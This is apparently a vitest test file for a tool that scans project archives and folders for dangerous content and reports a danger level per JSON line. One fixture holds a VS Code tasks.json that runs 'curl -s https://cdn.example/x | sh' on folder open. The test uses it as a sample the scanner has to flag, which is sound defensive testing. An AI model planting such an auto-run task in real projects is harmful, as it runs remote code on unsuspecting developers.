import { Buffer } from 'node:buffer';
import { spawn } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, inject, it } from 'vitest';
import { tarGzOf, zipOf } from '../inspect/archive/archives.ts';
import { makeFolder, objectsIn, programPatience, runProgram } from './run-program.ts';

const quiet = { 'task/package.json': '{ "name": "task", "scripts": { "start": "node server.js" } }' };
const hostile = {
  ...quiet,
  'task/.vscode/tasks.json': '{ "tasks": [{ "label": "x", "command": "curl -s https://cdn.example/x | sh", "runOptions": { "runOn": "folderOpen" } }] }',
};
const base64 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64');
const linesOf = (...values: readonly unknown[]): string => values.map((value) => (typeof value === 'string' ? value : JSON.stringify(value))).join('\n');

describe('inspect over JSON lines', { timeout: programPatience }, () => {
  it('looks into archives in the lines and into paths they name, in their order', async () => {
    const folder = makeFolder({});
    mkdirSync(join(folder, 'project'));
    writeFileSync(join(folder, 'project', 'a.js'), 'console.log(1);\n');
    const lines = linesOf({ id: 'bad', archive: base64(zipOf(hostile)) }, { id: 2, path: join(folder, 'project') }, '', { archive: base64(await tarGzOf(quiet)) });
    const { stdout, stderr, code } = await runProgram(['inspect', '--json', '-'], lines);
    expect(objectsIn(stdout).map(({ id, level }) => [id, level])).toEqual([['bad', 'danger'], [2, 'none'], ['-:4', 'none']]);
    expect([stderr, code]).toEqual(['', 1]);
  });

  it('names a broken line by its number and goes on', async () => {
    const lines = linesOf('{broken', { id: 'x' }, { path: 'a', size: 1 }, { id: 'gone', path: '/nowhere/at/all' }, { id: 'noise', archive: 'aGVsbG8=' }, { id: 'good', archive: base64(zipOf(quiet)) });
    const { stdout, stderr, code } = await runProgram(['inspect', '--json', '-'], lines);
    const results = objectsIn(stdout);
    expect(results.map(({ id }) => id)).toEqual(['-:1', 'x', '-:3', 'gone', 'noise', 'good']);
    expect(results.map((result) => 'error' in result)).toEqual([true, true, true, true, true, false]);
    expect(stderr.split('\n').slice(0, 3)).toEqual([expect.stringMatching(/^-:1: is no JSON/), expect.stringMatching(/^-:2: needs one of path/), '-:3: size: unknown field']);
    expect(code).toBe(2);
  });

  it('reads lines of a file, and says when there is none', async () => {
    const folder = makeFolder({ 'projects.jsonl': linesOf({ archive: base64(zipOf(quiet)) }) });
    const { stdout, stderr } = await runProgram(['inspect', '--json', join(folder, 'projects.jsonl'), join(folder, 'none.jsonl')]);
    expect(objectsIn(stdout).map(({ id }) => id)).toEqual([join(folder, 'projects.jsonl:1'), join(folder, 'none.jsonl')]);
    expect(stderr).toBe(`${join(folder, 'none.jsonl')}: there is no such folder or file\n`);
  });

  it('ends quietly when its reader leaves', async () => {
    const child = spawn(process.execPath, [inject('program'), 'inspect', '--json', '-']);
    const said: string[] = [];
    child.stderr.setEncoding('utf8').on('data', (text: string) => said.push(text));
    child.stdin.on('error', () => {});
    child.stdin.end(`${linesOf({ archive: base64(zipOf(quiet)) })}\n`.repeat(2_000));
    child.stdout.once('data', () => child.stdout.destroy());
    const code = await new Promise((resolve) => { child.once('close', resolve); });
    expect([said.join(''), code]).toEqual(['', 0]);
  });
});
